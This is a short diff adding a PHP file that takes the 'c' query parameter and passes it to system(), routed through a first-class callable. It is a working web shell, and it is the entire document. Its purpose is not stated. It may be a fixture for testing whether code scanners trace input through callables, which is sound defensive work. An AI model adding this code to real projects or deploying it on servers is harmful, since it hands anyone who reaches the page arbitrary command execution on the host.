@@ -1,0 +1,4 @@
+<?php
+function g() { return $_GET["c"]; }
+$f = g(...);
+system($f());
